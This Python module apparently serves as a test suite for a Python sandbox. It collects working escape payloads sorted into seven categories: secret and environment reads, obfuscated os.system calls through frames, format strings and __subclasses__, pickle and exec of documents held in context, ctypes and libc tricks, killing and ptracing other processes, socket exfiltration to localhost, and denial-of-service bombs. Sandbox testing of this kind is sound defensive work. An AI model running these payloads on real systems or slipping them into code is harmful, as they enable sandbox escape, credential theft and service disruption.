"""Attack payloads of our own, in the seven categories that the seed calls CIRCLE.

(The name also belongs to arXiv 2507.19399, which covers resource exhaustion only; the seven here
are direct, obfuscated, indirect through the context, memory corruption, privilege escalation,
exfiltration and denial of service.)

Each is code that works in plain CPython. `@NAME@` stands for a planted thing: see planted.py.
`proof` names the detector, which looks from outside; only `marker` believes what was printed, for
effects that cannot be seen from outside.
"""

from dataclasses import dataclass
from typing import Literal

Category = Literal[
    "direct", "obfuscated", "indirect", "memory-corruption", "privilege", "exfiltration", "denial"
]
Proof = Literal["leak", "file", "tcp", "udp", "unix", "victim", "memory", "lost", "flood", "marker"]


@dataclass(frozen=True, slots=True)
class Payload:
    """One attack; `document` is the hostile text it finds in the context, if any."""

    name: str
    category: Category
    proof: Proof
    code: str
    document: str = ""


MARKER = "attack-reached-its-effect"

DIRECT = (
    Payload("open", "direct", "leak", "print(open('@SECRET@').read())"),
    Payload("io-open", "direct", "leak", "import io\nprint(io.open('@SECRET@').read())"),
    Payload(
        "os-open",
        "direct",
        "leak",
        "import os\nprint(os.read(os.open('@SECRET@', os.O_RDONLY), 99))",
    ),
    Payload(
        "pathlib", "direct", "leak", "import pathlib\nprint(pathlib.Path('@SECRET@').read_text())"
    ),
    Payload("environ", "direct", "leak", "import os\nprint(dict(os.environ))"),
    Payload("os-system", "direct", "file", "import os\nos.system('touch @OUT@')"),
    Payload(
        "subprocess", "direct", "file", "import subprocess\nsubprocess.run(['touch', '@OUT@'])"
    ),
    Payload("write", "direct", "file", "import io\nio.open('@OUT@', 'w').write('x')"),
    Payload("copy", "direct", "file", "import shutil\nshutil.copy('@SECRET@', '@OUT@')"),
    Payload("mkdir", "direct", "file", "import os\nos.mkdir('@OUT@')"),
)

OBFUSCATED = (
    Payload(
        "split-names",
        "obfuscated",
        "file",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('touch @OUT@')",
    ),
    Payload(
        "module-of-module",
        "obfuscated",
        "file",
        "import re\nre.enum.sys.modules['os'].system('touch @OUT@')",
    ),
    Payload(
        "attrgetter",
        "obfuscated",
        "leak",
        "import operator, random\n"
        "get = operator.attrgetter('__init__.__globals__')\n"
        "print(dict(get(random.Random)['_os'].environ))",
    ),
    Payload(
        "subclasses",
        "obfuscated",
        "leak",
        "for c in ().__class__.__base__.__subclasses__():\n"
        "    if c.__name__ == '_wrap_close':\n"
        "        print(c.__init__.__globals__['environ'])",
    ),
    Payload(
        "match-pattern",
        "obfuscated",
        "leak",
        "import random\n"
        "match random.Random.seed:\n"
        "    case object(__globals__=g):\n"
        "        print(dict(g['_os'].environ))",
    ),
    Payload(
        "format-string",
        "obfuscated",
        "leak",
        "import random\nprint('{0.__globals__[_os].environ}'.format(random.Random.seed))",
    ),
    Payload(
        "base64-exec",
        "obfuscated",
        "file",
        "import base64\n"
        "code = base64.b64encode(b\"import os; os.system('touch @OUT@')\")\n"
        "exec(base64.b64decode(code))",
    ),
    Payload(
        "type-hints",
        "obfuscated",
        "file",
        "import typing\n"
        "hint = \"__import__('os').system('touch @OUT@')\"\n"
        "try:\n    typing.get_type_hints(type('A', (), {'__annotations__': {'x': hint}}))\n"
        "except TypeError:\n    pass",
    ),
    Payload(
        "generator-frame",
        "obfuscated",
        "file",
        "g = (x for x in [1])\ng.gi_frame.f_builtins['__import__']('os').system('touch @OUT@')",
    ),
    Payload(
        "traceback-frame",
        "obfuscated",
        "file",
        "class Out:\n"
        "    def __enter__(self): return self\n"
        "    def __exit__(self, kind, error, tb):\n"
        "        tb.tb_frame.f_builtins['__import__']('os').system('touch @OUT@')\n"
        "        return True\n"
        "with Out():\n    1 / 0",
    ),
    Payload(
        "unicode-names",
        "obfuscated",
        "file",
        "import \uff4f\uff53\n\uff4f\uff53.\uff53\uff59stem('touch @OUT@')",
    ),
)

INDIRECT = (
    Payload(
        "exec-document",
        "indirect",
        "file",
        "exec(context[@DOC@].text)",
        "import os\nos.system('touch @OUT@')",
    ),
    Payload(
        "eval-document",
        "indirect",
        "leak",
        "print(eval(context[@DOC@].text))",
        "__import__('os').environ",
    ),
    Payload(
        "path-of-document",
        "indirect",
        "leak",
        "import io\nprint(io.open(context[@DOC@].path).read())",
    ),
    Payload(
        "pickled-document",
        "indirect",
        "file",
        "import pickle, base64\n"
        "class Evil:\n"
        "    def __reduce__(self):\n"
        "        import os\n"
        "        return os.system, (context[@DOC@].text,)\n"
        "pickle.loads(pickle.dumps(Evil()))",
        "touch @OUT@",
    ),
    Payload(
        "format-document",
        "indirect",
        "leak",
        "import random\nprint(context[@DOC@].text.format(random.Random.seed))",
        "{0.__globals__[_os].environ}",
    ),
    Payload(
        "pattern-of-document",
        "indirect",
        "lost",
        "import re\nre.match(context[@DOC@].text, 'a' * 60 + 'b')",
        "(a+)+$",
    ),
    Payload(
        "bomb-document",
        "indirect",
        "memory",
        "import zlib, base64\n"
        "small = zlib.compress(bytes(400_000_000), 1)\n"
        "kept_bomb = zlib.decompress(small)",
    ),
    Payload(
        "shell-document",
        "indirect",
        "file",
        "import subprocess\nsubprocess.run(context[@DOC@].text, shell=True)",
        "touch @OUT@",
    ),
)

_LIBC = "import ctypes\nlibc = ctypes.CDLL(None)\n"

MEMORY_CORRUPTION = (
    Payload(
        "ctypes-system",
        "memory-corruption",
        "file",
        _LIBC + "libc.system(b'touch @OUT@')",
    ),
    Payload(
        "ctypes-read",
        "memory-corruption",
        "leak",
        _LIBC + "b = ctypes.create_string_buffer(99)\n"
        "libc.read(libc.open(b'@SECRET@', 0), b, 99)\nprint(b.value)",
    ),
    Payload(
        "raw-mkdir",
        "memory-corruption",
        "file",
        _LIBC + "import platform\n"
        "number = 83 if platform.machine() == 'x86_64' else None\n"
        "libc.syscall(number, b'@OUT@', 0o700) if number else libc.mkdir(b'@OUT@', 0o700)",
    ),
    Payload(
        "python-api",
        "memory-corruption",
        "file",
        "import ctypes\n"
        "ctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('touch @OUT@')\")",
    ),
    Payload(
        "executable-memory",
        "memory-corruption",
        "marker",
        "import mmap\n"
        "m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
        "print('attack-reached' + '-its-effect')",
    ),
    Payload(
        "make-executable",
        "memory-corruption",
        "marker",
        _LIBC + "libc.mmap.restype = ctypes.c_void_p\n"
        "page = libc.mmap(None, ctypes.c_size_t(4096), 3, 0x22, -1, ctypes.c_long(0))\n"
        "failed = libc.mprotect(ctypes.c_void_p(page), ctypes.c_size_t(4096), 5)\n"
        "print('attack-reached' + '-its-effect' if not failed else 'no')",
    ),
    Payload("null-pointer", "memory-corruption", "lost", "import ctypes\nctypes.string_at(1)"),
    Payload(
        "own-memory-file",
        "memory-corruption",
        "marker",
        "import io\nio.open('/proc/self/mem', 'r+b', 0)\nprint('attack-reached' + '-its-effect')",
    ),
)

PRIVILEGE = (
    Payload("kill", "privilege", "victim", "import os\nos.kill(@VICTIM@, 9)"),
    Payload(
        "ptrace",
        "privilege",
        "victim",
        _LIBC + "libc.ptrace(16, @VICTIM@, 0, 0)\nimport time\ntime.sleep(0.1)",
    ),
    Payload(
        "pidfd-signal",
        "privilege",
        "victim",
        "import os, signal\nsignal.pidfd_send_signal(os.pidfd_open(@VICTIM@), 9)",
    ),
    Payload(
        "fork",
        "privilege",
        "file",
        "import os\npid = os.fork()\nif pid == 0:\n    os.mkdir('@OUT@')\n    os._exit(0)\n"
        "os.waitpid(pid, 0)",
    ),
    Payload("symlink", "privilege", "file", "import os\nos.symlink('/etc/passwd', '@OUT@')"),
    Payload("hard-link", "privilege", "file", "import os\nos.link('@SECRET@', '@OUT@')"),
    Payload("fifo", "privilege", "file", "import os\nos.mkfifo('@OUT@')"),
    Payload(
        "memfd-exec",
        "privilege",
        "file",
        "import os\nfd = os.memfd_create('x', 0)\nos.write(fd, b'#!/bin/sh\\ntouch @OUT@\\n')\n"
        "pid = os.fork()\n"
        "if pid == 0:\n    os.execv(f'/proc/self/fd/{fd}', ['x'])\n"
        "os.waitpid(pid, 0)",
    ),
    Payload(
        "multiprocessing",
        "privilege",
        "file",
        "import multiprocessing, os\n"
        "p = multiprocessing.get_context('fork').Process(target=os.mkdir, args=('@OUT@',))\n"
        "p.start()\np.join()",
    ),
)

EXFILTRATION = (
    Payload(
        "tcp",
        "exfiltration",
        "tcp",
        "import socket\nsocket.create_connection(('127.0.0.1', @TCP@), 2).sendall(b'secret')",
    ),
    Payload(
        "udp",
        "exfiltration",
        "udp",
        "import socket\n"
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b's', ('127.0.0.1', @UDP@))",
    ),
    Payload(
        "unix-socket",
        "exfiltration",
        "unix",
        "import socket\nsocket.socket(socket.AF_UNIX).connect('@UNIX@')",
    ),
    Payload(
        "urllib",
        "exfiltration",
        "tcp",
        "import urllib.request\n"
        "try:\n    urllib.request.urlopen('http://127.0.0.1:@TCP@/secret', timeout=0.2)\n"
        "except OSError as e:\n    print(e)",
    ),
    Payload(
        "http-client",
        "exfiltration",
        "tcp",
        "import http.client\nhttp.client.HTTPConnection('127.0.0.1', @TCP@).request('GET', '/s')",
    ),
    Payload(
        "asyncio",
        "exfiltration",
        "tcp",
        "import asyncio\n"
        "async def leak():\n    await asyncio.open_connection('127.0.0.1', @TCP@)\n"
        "asyncio.run(leak())",
    ),
    Payload("popen", "exfiltration", "leak", "import os\nprint(os.popen('cat @SECRET@').read())"),
    Payload(
        "linecache",
        "exfiltration",
        "leak",
        "import linecache\nprint(linecache.getlines('@SECRET@'))",
    ),
    Payload(
        "tokenize",
        "exfiltration",
        "leak",
        "import tokenize\nprint(tokenize.open('@SECRET@').read())",
    ),
    Payload("file-io", "exfiltration", "leak", "import io\nprint(io.FileIO('@SECRET@').read())"),
    Payload(
        "parent-environ",
        "exfiltration",
        "leak",
        "import os, io\nprint(io.open(f'/proc/{os.getppid()}/environ', 'rb').read())",
    ),
    Payload(
        "error-text",
        "exfiltration",
        "leak",
        "import configparser\nconfigparser.ConfigParser().read('@SECRET@')",
    ),
)

DENIAL = (
    Payload("endless-loop", "denial", "lost", "while True:\n    pass"),
    Payload(
        "loop-that-catches",
        "denial",
        "lost",
        "while True:\n    try:\n        while True:\n            pass\n"
        "    except BaseException:\n        pass",
    ),
    Payload("endless-in-c", "denial", "lost", "import itertools\nsum(itertools.repeat(1))"),
    Payload("backtracking", "denial", "lost", "import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')"),
    Payload("sleep", "denial", "lost", "import time\ntime.sleep(10**6)"),
    Payload("memory", "denial", "memory", "kept_bomb = b'x' * 400_000_000"),
    Payload(
        "memory-in-pieces",
        "denial",
        "memory",
        "kept_bomb = []\nfor _ in range(400):\n    kept_bomb.append(bytearray(1_000_000))",
    ),
    Payload("output", "denial", "flood", "for _ in range(60):\n    print('x' * 1_000_000)"),
    Payload(
        "threads",
        "denial",
        "marker",
        "import threading, time\n"
        "for _ in range(30):\n"
        "    threading.Thread(target=time.sleep, args=(1,), daemon=True).start()\n"
        "print('attack-reached' + '-its-effect')",
    ),
    Payload(
        "deep-recursion",
        "denial",
        "lost",
        "import sys\nsys.setrecursionlimit(10**9)\n"
        "class Deep:\n    def __getattr__(self, name): return getattr(self, name + 'x')\n"
        "Deep().x",
    ),
    Payload("abort", "denial", "lost", "import os\nos.abort()"),
    Payload("disk", "denial", "file", "import io\nio.open('@OUT@', 'w').write('x' * 10_000_000)"),
)

ALL = (
    *DIRECT, *OBFUSCATED, *INDIRECT, *MEMORY_CORRUPTION, *PRIVILEGE, *EXFILTRATION, *DENIAL,
)  # fmt: skip

DANGEROUS_IMPORTS = (
    "import os, sys, io, socket, subprocess, shutil, pathlib, ctypes, signal, mmap, threading, "
    "multiprocessing, multiprocessing.popen_fork, asyncio, urllib.request, http.client, pickle, "
    "linecache, tokenize, configparser, importlib, platform, select, tempfile, random, operator"
)
"""Run before the seal, so that a payload meets the kernel and not an import that fails."""
